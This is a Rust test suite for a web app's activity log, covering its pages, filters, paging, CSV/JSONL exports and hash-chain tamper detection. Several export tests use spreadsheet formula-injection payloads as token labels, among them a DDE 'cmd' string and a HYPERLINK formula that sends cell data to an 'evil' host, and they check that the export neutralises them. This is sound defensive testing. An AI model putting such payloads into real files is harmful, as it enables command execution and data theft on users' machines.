//! The activity log: its page, its files, and the chain of its entries.

use crate::harness::{PASSWORD, Person, SLUG, TestApp, TestDb, db_test, org};
use diesel::{RunQueryDsl, sql_query};
use domain::{
    activity::{Action, Break, CHAIN_START, Key, Source, chained},
    organization::OrganizationId,
    paging::PageFrom,
    permission::BuiltInSet,
    time::Timestamp,
};
use serde_json::Value;
use std::{io::Write, process::Stdio};
use storage::{
    AnyConnection, StorageError,
    activity::{self, Entry, Filter, Walk},
};

const LOG: &str = org!("/activity");

/// Runs statements directly on the database.
fn tamper(app: &TestApp, statements: &[&str]) {
    app.db
        .write::<_, StorageError>(|connection| {
            for statement in statements {
                sql_query(*statement).execute(connection)?;
            }
            Ok(())
        })
        .expect("the statements run");
}

/// Returns the breaks in the log of an organization; 0 stands for entries without one.
pub fn breaks(app: &TestApp, organization: i64, noted: Option<(i64, [u8; 32])>) -> Vec<Break> {
    app.db
        .read::<_, StorageError>(|connection| {
            let mut walk = Walk::new(Some(OrganizationId(organization)), noted);
            loop {
                // Small steps, so that what lies between two of them is looked at as well.
                while walk.step(connection, 3)? {}
                if walk.end(connection)? {
                    return Ok(walk.breaks);
                }
            }
        })
        .expect("a walk")
}

/// Adds entries to the log of the first organization, one a second from `at`.
fn add(app: &TestApp, count: i64, at: Timestamp, action: Action) {
    let source = Source { address: "192.0.2.7".into(), program: "curl/8.5.0".into(), request_id: "0123".into() };
    app.db
        .write::<_, StorageError>(|connection| {
            for number in 0..count {
                let name = format!("Person {number}");
                let new = Entry {
                    actor_name: &name,
                    target_name: Some("somebody"),
                    token: Some(("abcdefghij", "Power BI")),
                    detail: Some(domain::activity::Detail::words("a detail")),
                    ..Entry::new(Some(OrganizationId(1)), action, at.plus(number), &source)
                };
                activity::insert(connection, &new)?;
            }
            Ok(())
        })
        .expect("entries");
}

/// Sends a request to notice closed connections: the server may have closed idle ones while entries were added.
async fn idle_connections_close() {
    actix_web::rt::time::sleep(std::time::Duration::from_millis(100)).await;
}

/// Parses a table with Python's own reader and this separator.
fn read(csv: &str, separator: char) -> Vec<Vec<String>> {
    let program = "import csv, io, json, sys; text = sys.stdin.buffer.read().decode(); \
        print(json.dumps(list(csv.reader(io.StringIO(text, newline=''), delimiter=sys.argv[1]))))";
    let mut command = std::process::Command::new("python3");
    command.args(["-c", program, &separator.to_string()]).stdin(Stdio::piped()).stdout(Stdio::piped());
    let mut child = command.spawn().expect("Python; ./test installs it");
    child.stdin.take().expect("its input").write_all(csv.as_bytes()).expect("a table");
    serde_json::from_slice(&child.wait_with_output().expect("its end").stdout).expect("rows")
}

async fn export(person: &Person, ending: &str, fields: &[(&str, &str)]) -> String {
    person.get(LOG).await;
    let answer = person.post(&format!("{LOG}.{ending}"), fields).await;
    assert_eq!(answer.status, 200, "{}", answer.body);
    assert!(answer.header("content-disposition").starts_with(&format!("attachment; filename=\"activity-{SLUG}-")));
    assert_eq!(answer.header("cache-control"), "no-store");
    answer.body
}

#[db_test]
async fn the_log_says_in_sentences_who_did_what_through_which_token(db: TestDb) {
    let (app, ann) = TestApp::with_user(db, "Ann").await;
    let key = ann.makes_token("Power <b>BI</b>").await;
    app.me(&key).await;
    app::maintenance::flush_usage(&app.jeton).await.unwrap();
    ann.post("/account/tokens/revocation", &[("which", "all")]).await;
    app.me(&key).await;
    app.me(&key).await;
    app::maintenance::flush_usage(&app.jeton).await.unwrap();
    let page = ann.get(LOG).await;
    assert_eq!(page.status, 200);
    for sentence in [
        "Ann set up this installation and its first organization",
        "Ann created the token Power <b>BI</b>",
        "Ann used the token Power <b>BI</b> for the first time",
        "Ann revoked the token Power <b>BI</b>",
        "The revoked token Power <b>BI</b> was called again 2 times and refused",
    ] {
        page.shows(sentence);
    }
    assert!(!page.body.contains("<b>BI"), "names are inert");
    page.shows("Entry 5 is the last of the chain");
}

#[db_test]
async fn an_entry_has_a_page_with_all_its_details(db: TestDb) {
    let (app, ann) = TestApp::with_user(db, "Ann").await;
    ann.makes_token("Power BI").await;
    let id = ann.token_id("Power BI").await;
    let list = ann.get(LOG).await;
    let jsonl = export(&ann, "jsonl", &[("kind", "token.created")]).await;
    let made: Value = serde_json::from_str(&jsonl).unwrap();
    let page = ann.get(&format!("{LOG}/{}", made["position"])).await;
    page.shows("Ann created the token Power BI").shows(&id).shows("Entries about this token");
    for known in ["address", "program", "request_id", "hash"] {
        let value = made[known].as_str().unwrap();
        page.shows(value);
        assert!(known != "request_id" || !list.body.contains(value), "the list is short");
    }
    let htmx = [("hx-request", "true"), ("hx-target", "a")];
    let part = ann.request("GET", &format!("{LOG}/{}", made["position"]), &htmx, String::new()).await;
    assert!(part.body.trim_start().starts_with("<details") && !part.body.contains("<html"), "{}", part.body);
    part.shows(&id);
    for none in ["0", "-1", "4711", "x"] {
        assert_eq!(ann.get(&format!("{LOG}/{none}")).await.status, 404, "{none}");
    }
    let eve = app.add_organization("elsewhere", "Eve").await;
    eve.makes_token("of Eve").await;
    let there = eve.get(&format!("/orgs/elsewhere/activity/{}", made["position"])).await;
    assert!(!there.text().contains("Power BI"), "it is another log");
}

#[db_test]
async fn a_page_of_the_log_is_small(db: TestDb) {
    let app = TestApp::demonstration(db).await;
    let awa = Person::at(&app.url, "Awa");
    awa.get("/sign-in").await;
    let signs_in = [("email", "awa@demo.example"), ("password", app::demo::PASSWORD)];
    assert_eq!(awa.post("/sign-in", &signs_in).await.status, 303);
    let page = awa.get(LOG).await.body;
    // The navigation is as long as there are kinds.
    let page = page.split("<main").nth(1).expect("the page's own part");
    let elements =
        page.match_indices('<').filter(|(at, _)| page[at + 1..].starts_with(|c: char| c.is_ascii_alphabetic()));
    let entries = page.matches("<li>\n        <time").count();
    assert_eq!(entries, app::activity::PAGE);
    assert!(elements.clone().count() <= 560, "{} elements", elements.count());
}

#[db_test]
async fn filters_find_a_persons_a_tokens_and_a_days_entries(db: TestDb) {
    let (app, ann) = TestApp::with_user(db, "Ann").await;
    let ben = app.add_user("Ben", BuiltInSet::Administrator).await;
    ann.makes_token("of Ann").await;
    ben.makes_token("of Ben").await;
    let id = ben.token_id("of Ben").await;
    app.clock.advance(86_400);
    let (ann, ben) = (app.browser("Ann"), app.browser("Ben"));
    ann.signs_in().await;
    ben.signs_in().await;
    for (filter, shown, hidden) in [
        ("person=ben@example.org", "of Ben", "of Ann"),
        ("person=Ben", "of Ben", "of Ann"),
        (&*format!("token={id}"), "of Ben", "of Ann"),
        ("kind=token.created", "of Ann", "signed in"),
        ("kind=tokens", "of Ann", "signed in"),
        ("kind=accounts", "signed in", "of Ann"),
        ("person=ann@example.org&kind=tokens", "of Ann", "of Ben"),
        (&*format!("from={}", app.clock.now().utc().format("%Y-%m-%d")), "signed in", "of Ann"),
        (&*format!("to={}", app.clock.now().plus(-86_400).utc().format("%Y-%m-%d")), "of Ann", "nobody"),
    ] {
        let page = ann.get(&format!("{LOG}?{filter}")).await;
        assert_eq!(page.status, 200, "{filter}");
        let entries = page.text();
        let entries = entries.split_once("Export:").expect("a list").1.to_owned();
        assert!(entries.contains(shown) && !entries.contains(hidden), "{filter}: {entries}");
    }
    for wrong in ["person=Nobody", "token=x", "kind=everything", "from=yesterday", "to=2026-13-01"] {
        let page = ann.get(&format!("{LOG}?{wrong}")).await;
        assert_eq!(page.status, 422, "{wrong}");
        assert!(page.body.contains("-error\""), "{wrong}");
    }
}

#[db_test]
async fn pages_of_the_log_neither_skip_nor_repeat_entries(db: TestDb) {
    let (app, ann) = TestApp::with_user(db, "Ann").await;
    let now = app.clock.now();
    // Many in the same second, so that pages end within one.
    for _ in 0..30 {
        add(&app, 4, now.plus(-100), Action::TokenExpired);
    }
    let all: Vec<Key> = app
        .db
        .read::<_, StorageError>(|connection| {
            let filter = Filter::default();
            activity::page(connection, Some(OrganizationId(1)), &filter, PageFrom::Start, 1000)
        })
        .unwrap()
        .iter()
        .map(domain::activity::Logged::key)
        .collect();
    assert_eq!(all.len(), 121);
    assert!(all.is_sorted_by(|newer, older| newer > older));
    for (filter, count) in [
        (Filter::default(), 121),
        (Filter { actions: Some(vec![Action::TokenExpired, Action::SessionStarted]), ..Filter::default() }, 120),
        (Filter { token: Some("abcdefghij".into()), until: Some(now), ..Filter::default() }, 120),
    ] {
        let page = |from| {
            let read =
                |connection: &mut AnyConnection| activity::page(connection, Some(OrganizationId(1)), &filter, from, 7);
            let found = app.db.read::<_, StorageError>(read).unwrap();
            found.iter().map(domain::activity::Logged::key).collect::<Vec<_>>()
        };
        let (mut down, mut from) = (Vec::<Key>::new(), PageFrom::Start);
        while let Some(last) = {
            let next = page(from);
            down.extend(&next);
            next.last().copied()
        } {
            from = PageFrom::After(last);
        }
        assert_eq!(down.len(), count);
        let (mut up, mut from) = (Vec::<Key>::new(), PageFrom::Before(Key { at: Timestamp::from_seconds(0), id: 0 }));
        while let Some(last) = {
            let next = page(from);
            up.extend(&next);
            next.last().copied()
        } {
            from = PageFrom::Before(last);
        }
        up.reverse();
        assert_eq!(up, down);
    }
    let first = ann.get(LOG).await;
    let older = first.body.split("rel=\"next\" href=\"").nth(1).unwrap().split('"').next().unwrap();
    let second = ann.get(&older.replace("&#38;", "&")).await;
    second.shows("Newer").shows("Older");
}

#[db_test]
async fn each_organization_sees_only_its_own_entries(db: TestDb) {
    let (app, ann) = TestApp::with_user(db, "Ann").await;
    let eve = app.add_organization("elsewhere", "Eve").await;
    eve.makes_token("of Eve").await;
    ann.makes_token("of Ann").await;
    let there = eve.get("/orgs/elsewhere/activity").await;
    there.shows("of Eve");
    assert!(!there.text().contains("of Ann"));
    assert!(!ann.get(LOG).await.text().contains("of Eve"));
    assert_eq!(eve.get(LOG).await.status, 404);
    assert_eq!(eve.get("/orgs/elsewhere/activity?person=ann@example.org").await.status, 422, "nobody there");
    assert!(!export(&ann, "csv", &[]).await.contains("of Eve"));
}

#[db_test]
async fn an_export_has_what_the_filter_finds_and_is_logged(db: TestDb) {
    let (app, ann) = TestApp::with_user(db, "Ann").await;
    ann.makes_token("=cmd|' /C calc'!A0,\"x\"").await;
    add(&app, 2500, app.clock.now().plus(-9000), Action::TokenExpired);
    idle_connections_close().await;
    let csv = export(&ann, "csv", &[]).await;
    assert!(csv.starts_with("\u{feff}\"entry\",\"time_utc\",\"action\""));
    assert_eq!(csv.lines().count(), 1 + 2 + 2500 + 1, "the export is in the log that it exports");
    assert!(csv.contains("\"'=cmd|' /C calc'!A0,\"\"x\"\"\""), "no cell begins like a formula");
    assert!(csv.contains("\"data.exported\",\"Ann\""));
    let jsonl = export(&ann, "jsonl", &[("kind", "token.created")]).await;
    assert_eq!(jsonl.lines().count(), 1);
    assert_eq!(serde_json::from_str::<Value>(&jsonl).unwrap()["token"], "=cmd|' /C calc'!A0,\"x\"");
    ann.get(LOG).await.shows("Ann exported activity.csv").shows("Ann exported activity.jsonl");
    let refused = ann.post(&format!("{LOG}.csv"), &[("from", "yesterday")]).await;
    assert_eq!(refused.status, 422);
}

#[db_test]
async fn no_cell_of_an_export_is_a_formula_whatever_the_separator(db: TestDb) {
    let (_app, ann) = TestApp::with_user(db, "Ann").await;
    for label in [
        "x;=HYPERLINK(\"http://evil/?\"&A1;\"click\");",
        "x,=1+1,y",
        "x; \"=1+1\"",
        "=cmd|' /C calc'!A0",
        "＝1+1；",
        "@SUM(A1);-1,+1",
        "x;＠A1",
        "2026-11",
    ] {
        assert_eq!(ann.asks_for_token(label, "read", "45").await.status, 200, "{label}");
    }
    for language in ["en", "fr"] {
        let profile = [
            ("name", "Ann"),
            ("email", "ann@example.org"),
            ("language", language),
            ("time_zone", "UTC"),
            ("theme", "system"),
        ];
        ann.get("/account/profile").await;
        assert_eq!(ann.post("/account/profile", &profile).await.status, 303);
        let csv = export(&ann, "csv", &[]).await;
        assert!(csv.starts_with('\u{feff}') && csv.ends_with("\r\n"));
        let own = if language == "en" { ',' } else { ';' };
        for separator in [',', ';', '\t'] {
            let rows = read(&csv, separator);
            for cell in rows.iter().flatten().map(|cell| cell.trim_start_matches('\u{feff}')) {
                let formula = cell.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
                assert!(!formula, "{language} {separator:?}: {cell:?}");
            }
            assert!(separator != own || rows.iter().all(|row| row.len() == 13), "{language}: {rows:?}");
        }
        let month = read(&csv, own).into_iter().flatten().find(|cell| cell.ends_with("2026-11"));
        assert_eq!(month.as_deref(), Some("'2026-11"), "it is a label and no month");
    }
}

#[db_test]
async fn an_export_is_enough_to_check_the_chain(db: TestDb) {
    let (app, ann) = TestApp::with_user(db, "Ann").await;
    ann.makes_token("Power BI").await;
    add(&app, 5, app.clock.now().plus(-9000), Action::TokenRevoked);
    let jsonl = export(&ann, "jsonl", &[]).await;
    let mut rows: Vec<Value> = jsonl.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    rows.sort_by_key(|row| row["position"].as_i64());
    let fields = [
        "position",
        "organization",
        "at",
        "action",
        "actor_id",
        "actor",
        "target_id",
        "target",
        "token_id",
        "token",
        "detail",
        "count",
        "address",
        "program",
        "request_id",
    ];
    let mut last = CHAIN_START;
    for (position, row) in (1..).zip(&rows) {
        assert_eq!(row["position"], position);
        let values = fields.map(|field| match &row[field] {
            Value::Null => None,
            Value::String(text) => Some(text.clone()),
            number => Some(number.to_string()),
        });
        last = chained(&last, &values.each_ref().map(Option::as_deref));
        assert_eq!(row["hash"], hex::encode(last));
    }
    assert_eq!(rows.len(), 8);
}

#[db_test]
async fn an_export_stops_when_the_session_or_the_permission_ends(db: TestDb) {
    let (app, ann) = TestApp::with_user(db, "Ann").await;
    let ben = app.add_user("Ben", BuiltInSet::Administrator).await;
    add(&app, 8000, app.clock.now().plus(-90_000), Action::TokenExpired);
    idle_connections_close().await;
    ben.signs_in().await;
    let (answer, ()) = futures_util::future::join(ben.try_post(&format!("{LOG}.jsonl"), &[]), async {
        actix_web::rt::time::sleep(std::time::Duration::from_millis(30)).await;
        tamper(&app, &["DELETE FROM sessions WHERE user_id = (SELECT max(id) FROM users)"]);
    })
    .await;
    // On a machine that is quick enough the file was complete before.
    if let Ok(answer) = answer {
        assert!(answer.body.lines().count() > 8000);
    }
    assert_eq!(ben.get(LOG).await.status, 303);
    assert_eq!(ann.get(LOG).await.status, 200);
}

#[db_test]
async fn a_change_to_any_column_is_detected(db: TestDb) {
    let (app, _ann) = TestApp::with_user(db, "Ann").await;
    add(&app, 9, app.clock.now(), Action::TokenRevoked);
    assert_eq!(breaks(&app, 1, None), []);
    for (column, value) in [
        ("organization_id", "NULL"),
        ("at", "at + 1"),
        ("action", "'token.created'"),
        ("actor_user_id", "1"),
        ("actor_name", "'Eve'"),
        ("target_user_id", "1"),
        ("target_name", "NULL"),
        ("target_name", "''"),
        ("token_public_id", "'bbbbbbbbbb'"),
        ("token_label", "'Power  BI'"),
        ("detail", "NULL"),
        ("count", "2"),
        ("address", "'192.0.2.8'"),
        ("program", "''"),
        ("request_id", "'4567'"),
        ("position", "99"),
        ("position", "-1"),
        ("hash", "(SELECT hash FROM activity WHERE organization_id = 1 AND position = 1)"),
    ] {
        let positions = if column == "position" { vec![5, 10] } else { vec![2, 5, 10] };
        for position in positions {
            let row = format!("organization_id = 1 AND position = {position}");
            tamper(
                &app,
                &[
                    "CREATE TABLE kept AS SELECT * FROM activity",
                    &format!("UPDATE activity SET {column} = {value} WHERE {row}"),
                ],
            );
            assert!(!breaks(&app, 1, None).is_empty(), "{column} = {value} at {position}");
            tamper(&app, &["DELETE FROM activity", "INSERT INTO activity SELECT * FROM kept", "DROP TABLE kept"]);
            assert_eq!(breaks(&app, 1, None), [], "all is as it was");
        }
    }
}

#[db_test]
async fn missing_moved_and_added_entries_are_detected(db: TestDb) {
    let (app, _ann) = TestApp::with_user(db, "Ann").await;
    add(&app, 9, app.clock.now(), Action::TokenRevoked);
    let noted =
        app.db.read::<_, StorageError>(|connection| activity::head(connection, Some(OrganizationId(1)))).unwrap();
    assert_eq!(noted.map(|(position, _)| position), Some(10));
    assert_eq!(breaks(&app, 1, noted), []);
    let swap = [
        "UPDATE activity SET position = -1 WHERE organization_id = 1 AND position = 4",
        "UPDATE activity SET position = 4 WHERE organization_id = 1 AND position = 7",
        "UPDATE activity SET position = 7 WHERE organization_id = 1 AND position = -1",
    ];
    let added = "INSERT INTO activity (organization_id, at, action, actor_name, count, address, program, request_id, \
        position, hash) SELECT organization_id, at, action, 'Eve', count, address, program, request_id, 11, hash \
        FROM activity WHERE organization_id = 1 AND position = 10";
    let cut = [
        "DELETE FROM activity WHERE organization_id = 1 AND position > 8",
        "UPDATE activity_heads SET position = 8, hash = (SELECT hash FROM activity WHERE organization_id = 1 AND position = 8) \
         WHERE organization_id = 1",
    ];
    let cases: [(&[&str], Option<Break>); 8] = [
        (&["DELETE FROM activity WHERE organization_id = 1 AND position = 1"], Some(Break::Missing(1, 1))),
        (&["DELETE FROM activity WHERE organization_id = 1 AND position IN (5, 6)"], Some(Break::Missing(5, 6))),
        (&["DELETE FROM activity WHERE organization_id = 1 AND position > 8"], Some(Break::Missing(9, 10))),
        (&["DELETE FROM activity WHERE organization_id = 1"], Some(Break::Missing(1, 10))),
        (&["DELETE FROM activity_heads WHERE organization_id = 1"], Some(Break::NoEnd)),
        (&swap, Some(Break::Changed(4))),
        (&[added], Some(Break::Inserted(11))),
        // Whoever also moves the end leaves no trace in the database: only what was noted elsewhere tells.
        (&cut, None),
    ];
    for (statements, found) in cases {
        tamper(
            &app,
            &["CREATE TABLE kept AS SELECT * FROM activity", "CREATE TABLE ends AS SELECT * FROM activity_heads"],
        );
        tamper(&app, statements);
        let breaks_found = breaks(&app, 1, None);
        match found {
            Some(found) => assert!(breaks_found.contains(&found), "{statements:?}: {breaks_found:?}"),
            None => assert_eq!(breaks_found, []),
        }
        assert!(!breaks(&app, 1, noted).is_empty(), "{statements:?} against what was noted");
        tamper(
            &app,
            &[
                "DELETE FROM activity",
                "DELETE FROM activity_heads",
                "INSERT INTO activity SELECT * FROM kept",
                "INSERT INTO activity_heads SELECT * FROM ends",
                "DROP TABLE kept",
                "DROP TABLE ends",
            ],
        );
    }
    assert_eq!(breaks(&app, 1, noted), []);
}

#[db_test]
async fn days_are_in_the_time_zone_of_the_user(db: TestDb) {
    let (app, ann) = TestApp::with_user(db, "Ann").await;
    let profile = [
        ("name", "Ann"),
        ("email", "ann@example.org"),
        ("language", "fr"),
        ("time_zone", "Pacific/Auckland"),
        ("theme", "system"),
        ("password", PASSWORD),
    ];
    assert_eq!(ann.post("/account/profile", &profile).await.status, 303);
    // 2026-01-09 at noon in Auckland, still the day before in UTC.
    add(&app, 1, Timestamp::from_seconds(1_767_913_200), Action::OrganizationCreated);
    let on = |day: &str| format!("{LOG}?from={day}&to={day}");
    ann.get(&on("2026-01-09")).await.shows("a créé cette organisation").shows("12:00");
    assert!(!ann.get(&on("2026-01-08")).await.text().contains("a créé cette organisation"));
}

/// The query plans of both databases for the pages' queries: always an index in the order of the page, never a sort or
/// a scan.
mod plans {
    use super::*;
    use diesel::{QueryableByName, sql_types::Text};

    #[derive(QueryableByName)]
    struct Step {
        #[diesel(sql_type = Text)]
        detail: String,
    }

    #[derive(QueryableByName)]
    struct Line {
        #[diesel(sql_type = Text, column_name = "QUERY PLAN")]
        line: String,
    }

    fn plan(app: &TestApp, query: &str) -> String {
        app.db
            .read::<_, StorageError>(|connection| match connection {
                AnyConnection::Sqlite(_) => {
                    let steps: Vec<Step> = sql_query(format!("EXPLAIN QUERY PLAN {query}")).load(connection)?;
                    Ok(steps.into_iter().map(|step| step.detail).collect::<Vec<_>>().join("\n"))
                }
                AnyConnection::Postgres(_) => {
                    let lines: Vec<Line> = sql_query(format!("EXPLAIN {query}")).load(connection)?;
                    Ok(lines.into_iter().map(|line| line.line).collect::<Vec<_>>().join("\n"))
                }
            })
            .expect("a plan")
    }

    #[db_test]
    async fn every_filter_of_the_log_reads_one_index_in_order(db: TestDb) {
        let (app, _ann) = TestApp::with_user(db, "Ann").await;
        add(&app, 3000, app.clock.now().plus(-9000), Action::TokenExpired);
        tamper(
            &app,
            &["UPDATE activity SET actor_user_id = id % 50, target_user_id = id % 60, \
            action = 'token.' || (id % 20), token_public_id = id % 70"],
        );
        tamper(&app, &["ANALYZE"]);
        for (condition, index) in [
            ("TRUE", "activity_organization"),
            ("at >= 1 AND at < 9000000000", "activity_organization"),
            ("actor_user_id = 7", "activity_actor"),
            ("target_user_id = 7", "activity_target"),
            ("token_public_id = '7'", "activity_token"),
            ("action = 'token.7'", "activity_action"),
            ("actor_user_id = 7 AND at < 9000000000", "activity_actor"),
        ] {
            let query = format!(
                "SELECT * FROM activity WHERE organization_id = 1 AND {condition} AND at <= 5000000000 \
                 AND (at < 5000000000 OR id < 9) ORDER BY at DESC, id DESC LIMIT 51"
            );
            let plan = plan(&app, &query);
            assert!(plan.contains(index), "{condition}: {plan}");
            assert!(!plan.contains("Sort") && !plan.contains("TEMP B-TREE") && !plan.contains("Seq Scan"), "{plan}");
        }
        let entry = "SELECT * FROM activity WHERE coalesce(organization_id, 0) = 1 AND position = 5";
        assert!(plan(&app, entry).contains("activity_position"), "{}", plan(&app, entry));
        let walk =
            "SELECT * FROM activity WHERE coalesce(organization_id, 0) = 1 AND position > 5 ORDER BY position LIMIT 10";
        assert!(plan(&app, walk).contains("activity_position"), "{}", plan(&app, walk));
    }
}
